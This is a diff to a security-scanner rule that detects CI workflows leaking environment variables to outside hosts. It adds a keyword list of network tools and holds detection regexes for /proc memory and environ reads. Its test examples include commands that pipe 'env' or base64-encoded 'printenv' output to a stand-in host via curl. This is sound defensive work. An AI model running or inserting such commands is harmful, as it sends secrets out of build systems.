@@ -32,12 +32,17 @@ from sentinel.model.package import Workflow
 from sentinel.model.rule import Confidence, Example, Item, Match, Severity, Workspace, rule
 
 _HELD = expression(
-    r"\b(?P<name>[A-Za-z_]\w{0,40})=[\"']?(?:\$\(|`)[^\n]{0,60}?(?<![\w/.-])(?:printenv|env|set)\b(?![\w=./-])(?:[^\n)`=]{0,80})(?:\)|`)"
+    r"\b(?P<name>[A-Za-z_]\w{0,40})=[\"']?(?:\$\(|`)[^\n]{0,60}?(?<![\w/.-])(?:printenv|env)\b(?![\w=./-])(?:[^\n)`=]{0,80})(?:\)|`)"
 )
 """A variable that holds the whole environment."""
 _MEMORY = expression(r"/proc/(?:\$\{?\w+\}?|\*|[0-9]+|\$\([^)\n]{1,80}\))/(?:mem|maps|environ)\b")
 _SENT = r"\b(?:curl|wget|nc|ncat)\b[^\n]{0,300}\$\{?"
 _ASKED = expression(r"\b(?:curl|wget|nc|ncat)\s[^\n]{0,300}https?://(?!localhost|127\.0\.0\.1)|\bnc\s+\S+\s+\d+")
+_WORDS = (
+    b"curl", b"wget", b"invoke-", b"iwr", b"irm", b"nc ", b"ncat", b"netcat", b"scp", b"rsync", b"requests", b"httpx", b"axios", b"urlopen",
+    b"fetch", b"http.request", b"https.request",
+)  # fmt: skip
+"""What can send; each in lower case."""
 _PATH = ".github/workflows/a.yml"
 
 
@@ -54,7 +59,7 @@ def _run(*lines: str) -> str:
     cwe=200,
     cvss="CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:N",
     owasp=("MCP01:2025", "MCP04:2025", "ASI04:2026"),
-    keywords=(b"env", b".ssh", b"/proc/", b".aws", b".git", b".npmrc", b"id_rsa"),
+    keywords=_WORDS,
     bad=(
         Example(_run("env | curl -s -X POST --data-binary @- https://in.example.net/c"), (6,), _PATH),
         Example(_run("data=$(printenv | base64 -w0)", 'curl -s -d "$data" https://in.example.net/c'), (7,), _PATH),
@@ -91,6 +96,9 @@ def check(workflow: Workflow, workspace: Workspace) -> Iterator[Match]:
 
 def _sent(script: str) -> str:
     """The words of the script that do it, as they stand there; empty when none do."""
+    lowered = script.lower().encode()
+    if not any(word in lowered for word in _WORDS):
+        return ""
     deed = sends_away(script)
     if deed is not None and not script.startswith("/dev/", deed.start):  # a look whether a port answers
         return script[deed.start : deed.end].split("\n")[0]
